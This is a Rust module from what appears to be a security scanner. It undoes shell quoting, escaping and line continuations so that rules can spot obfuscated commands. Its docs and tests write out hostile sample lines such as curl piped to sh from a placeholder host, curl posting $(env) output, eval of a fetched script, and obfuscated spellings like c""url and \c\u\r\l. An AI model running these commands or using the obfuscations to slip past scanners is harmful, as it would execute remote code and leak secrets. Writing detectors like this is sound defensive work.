//! The shell view: a command line as the shell reads it, for rules that set
//! `shell = true`.
//!
//! A shell joins `\`-continued lines and removes quotes and escapes inside a
//! word before it runs anything, so `c""url … \` / `| s'h'` and `\c\u\r\l`
//! are `curl … | sh` to it. The view does the same, leniently and with
//! bounded cost: at most [`MAX_LINES`] physical lines and [`MAX_VIEW`] bytes
//! of output per logical line, each input byte read once.
//!
//! The view only ever deletes bytes (quotes, escaping backslashes, the
//! backslash-newline of a continuation): every byte of it comes from the
//! input, in order. A rule matching the view therefore matches text whose
//! bytes are all in the added lines, in that order.
//!
//! [`worth`] is the prefilter: a line takes the view only when it ends with a
//! continuation, holds a quoted run glued to a word (`s'h'`, `c""url`,
//! `"cu""rl"`) or a backslash escaping a letter in an unquoted word
//! (`\c\u\r\l`, `cu\rl`). Ordinary code (`"text"`, `b"bytes"`, `f'{x}'`,
//! `"a\nb"`, `it's`) does not, so clean code stays on the fast path.

/// Most bytes of view built for one logical line.
pub(crate) const MAX_VIEW: usize = 4096;
/// Most physical lines joined into one logical line.
pub(crate) const MAX_LINES: usize = 16;
/// Longest quoted run that [`worth`] reads to find its closing quote.
const MAX_QUOTED: usize = 64;

/// Whether `line` ends with a line continuation (`\` before the newline).
pub(crate) fn continues(line: &[u8]) -> bool {
    let body = line.strip_suffix(b"\r").unwrap_or(line);
    let Some(stripped) = body.strip_suffix(b"\\") else {
        return false;
    };
    // An even number of backslashes is an escaped backslash, not a continuation.
    let run = stripped.iter().rev().take_while(|&&b| b == b'\\').count();
    run % 2 == 0
}

/// Prefixes of string literals in programming languages (`b"…"`, `f'…'`,
/// `u8"…"`): a quote after one of these is not glued to a shell word.
fn is_string_prefix(word: &[u8]) -> bool {
    word.len() <= 2
        && word.iter().all(|b| {
            matches!(
                b.to_ascii_lowercase(),
                b'b' | b'r' | b'f' | b'u' | b'l' | b'8'
            )
        })
}

/// Whether `line` alone is worth the shell view (see the module docs).
pub(crate) fn worth(line: &[u8]) -> bool {
    if continues(line) {
        return true;
    }
    let mut i = 0;
    while let Some(off) = memchr::memchr3(b'\'', b'"', b'\\', &line[i..]) {
        let at = i + off;
        let q = line[at];
        if q == b'\\' {
            if escapes_letter_in_bare_word(line, at) {
                return true;
            }
            i = (at + 2).min(line.len());
            continue;
        }
        // A quoted run without blanks (a shell word), closed within reach.
        let rest = &line[at + 1..line.len().min(at + 1 + MAX_QUOTED)];
        let close = rest
            .iter()
            .position(|&b| b == q || b == b' ' || b == b'\t')
            .filter(|&p| rest[p] == q);
        let Some(p) = close else {
            i = at + 1;
            continue;
        };
        let end = at + 1 + p;
        let word_start = line[at.saturating_sub(MAX_QUOTED)..at]
            .iter()
            .rposition(|b| !b.is_ascii_alphanumeric())
            .map_or(at.saturating_sub(MAX_QUOTED), |p| {
                at.saturating_sub(MAX_QUOTED) + p + 1
            });
        let glued_left = word_start < at && !is_string_prefix(&line[word_start..at]);
        let glued_right = line
            .get(end + 1)
            .is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'"' || b == b'\'');
        if glued_left || glued_right {
            return true;
        }
        i = end + 1;
    }
    false
}

/// Whether the backslash at `at` escapes a letter inside an unquoted word
/// (`\c\u\r\l`, `cu\rl`): in a word with quotes it is most likely an escape
/// in a string literal (`"a\nb"`).
fn escapes_letter_in_bare_word(line: &[u8], at: usize) -> bool {
    if !line.get(at + 1).is_some_and(u8::is_ascii_alphabetic) {
        return false;
    }
    // The word around, read at most `MAX_QUOTED` bytes each way so that a
    // long word full of backslashes costs linear time.
    let blank = |b: &u8| *b == b' ' || *b == b'\t';
    let lo = at.saturating_sub(MAX_QUOTED);
    let hi = line.len().min(at + MAX_QUOTED);
    let start = line[lo..at]
        .iter()
        .rposition(blank)
        .map_or(lo, |p| lo + p + 1);
    let end = line[at..hi].iter().position(blank).map_or(hi, |p| at + p);
    let word = &line[start..end];
    // A quote in the word makes it a string literal, unless the backslash is
    // inside a command substitution (`"$(c\url …)"`).
    if word.iter().any(|&b| b == b'"' || b == b'\'') && memchr::memmem::find(word, b"$(").is_none()
    {
        return false;
    }
    at == start || line[at - 1].is_ascii_alphanumeric() || line[at - 1] == b'\\'
}

/// A logical line as the shell reads it, with where each byte came from.
#[derive(Debug, Default)]
pub(crate) struct View {
    /// The text, quotes and escapes removed and continuations joined.
    pub(crate) text: Vec<u8>,
    /// For each byte of `text`: the index of its physical line in the input
    /// slice and its offset in that line.
    pub(crate) from: Vec<(u32, u32)>,
    /// How many physical lines the view covers.
    pub(crate) lines: usize,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Quote {
    None,
    Single,
    Double,
}

/// The shell view of the logical line that starts at `lines[0]`: it takes
/// following lines while a line ends with a continuation (at most
/// [`MAX_LINES`]), and stops at [`MAX_VIEW`] bytes of output.
pub(crate) fn view(lines: &[&[u8]]) -> View {
    let mut v = View::default();
    let mut quote = Quote::None;
    // Quoting outside each open `$(` inside double quotes: a command
    // substitution starts a new quoting context (`"$(c'u'rl …)"`).
    let mut outer: Vec<Quote> = Vec::new();
    for (k, raw) in lines.iter().take(MAX_LINES).enumerate() {
        v.lines = k + 1;
        let joined = continues(raw) && k + 1 < lines.len().min(MAX_LINES);
        let body = raw.strip_suffix(b"\r").unwrap_or(raw);
        let body = if joined {
            &body[..body.len() - 1]
        } else {
            body
        };
        let mut i = 0;
        while i < body.len() {
            if v.text.len() >= MAX_VIEW {
                return v;
            }
            let b = body[i];
            let kept = match (quote, b) {
                (Quote::Double, b'$') if body.get(i + 1) == Some(&b'(') && outer.len() < 8 => {
                    outer.push(quote);
                    quote = Quote::None;
                    Some(i)
                }
                (Quote::None, b')') if !outer.is_empty() => {
                    quote = outer.pop().unwrap_or(Quote::None);
                    Some(i)
                }
                (Quote::None, b'\'') => {
                    quote = Quote::Single;
                    None
                }
                (Quote::None, b'"') => {
                    quote = Quote::Double;
                    None
                }
                (Quote::Single, b'\'') | (Quote::Double, b'"') => {
                    quote = Quote::None;
                    None
                }
                (Quote::None, b'\\') if i + 1 < body.len() => {
                    i += 1;
                    Some(i)
                }
                (Quote::Double, b'\\')
                    if body
                        .get(i + 1)
                        .is_some_and(|c| matches!(c, b'$' | b'`' | b'"' | b'\\')) =>
                {
                    i += 1;
                    Some(i)
                }
                _ => Some(i),
            };
            if let Some(at) = kept {
                v.text.push(body[at]);
                v.from.push((k as u32, at as u32));
            }
            i += 1;
        }
        if !joined {
            break;
        }
        // An unterminated quote does not carry over a physical line end
        // unless the line continues; quoting stays lenient.
    }
    v
}

#[cfg(test)]
mod tests {
    use super::{MAX_VIEW, continues, view, worth};

    fn text(lines: &[&str]) -> String {
        let raw: Vec<&[u8]> = lines.iter().map(|l| l.as_bytes()).collect();
        String::from_utf8(view(&raw).text).unwrap()
    }

    #[test]
    fn removes_quotes_and_escapes_in_words() {
        assert_eq!(text(&["c\"\"url -s x | s'h'"]), "curl -s x | sh");
        assert_eq!(text(&["\\c\\u\\r\\l x|ba\\sh"]), "curl x|bash");
        assert_eq!(text(&["\"cu\"\"rl\" x"]), "curl x");
        assert_eq!(text(&["curl -d \"$(env)\" u"]), "curl -d $(env) u");
        assert_eq!(text(&["eval \"$(c'u'rl x)\" 'y'"]), "eval $(curl x) y");
    }

    #[test]
    fn joins_continuations() {
        assert_eq!(
            text(&["curl -fsSL https://x.example/i \\", "  | sh", "echo done"]),
            "curl -fsSL https://x.example/i   | sh"
        );
        assert_eq!(text(&["a \\\\", "b"]), "a \\");
        assert!(continues(b"x \\\r"));
        assert!(!continues(b"x \\\\"));
    }

    #[test]
    fn prefilter_skips_ordinary_code() {
        for l in [
            "let s = \"text\";",
            "x = b\"bytes\" + f'{y}'",
            "printf(\"a\\nb\");",
            "it's fine, don't worry",
            "map[\"k\"] = 'v';",
            "fn f<'a>(x: &'a str) {}",
            "echo \"$HOME\"/bin",
        ] {
            assert!(!worth(l.as_bytes()), "{l}");
        }
        for l in [
            "c\"\"url x",
            "s'h'",
            "\\curl x",
            "cu\\rl",
            "\"cu\"\"rl\"",
            "a \\",
            "bash -c \"$(c\\url x)\"",
        ] {
            assert!(worth(l.as_bytes()), "{l}");
        }
    }

    #[test]
    fn bounded() {
        let long = "\"\"".repeat(10_000) + &"a".repeat(10_000);
        let lines: Vec<&[u8]> = vec![long.as_bytes(); 100];
        let v = view(&lines);
        assert!(v.text.len() <= MAX_VIEW);
        let cont = "x \\".to_string();
        let lines: Vec<&[u8]> = vec![cont.as_bytes(); 100];
        assert_eq!(view(&lines).lines, super::MAX_LINES);
    }
}
